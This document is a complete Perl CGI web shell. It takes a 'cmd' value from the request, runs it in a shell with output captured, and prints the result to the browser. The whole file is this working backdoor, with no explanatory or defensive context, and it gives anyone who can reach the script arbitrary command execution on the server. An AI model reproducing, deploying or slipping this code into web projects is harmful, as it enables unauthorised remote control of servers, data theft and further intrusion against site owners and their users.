#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print "Content-type: text/html\n\n";
my $cmd = $q->param('cmd');
if ($cmd) {
    print "<pre>";
    open(my $fh, "$cmd 2>&1 |");
    print while <$fh>;
    print "</pre>";
}
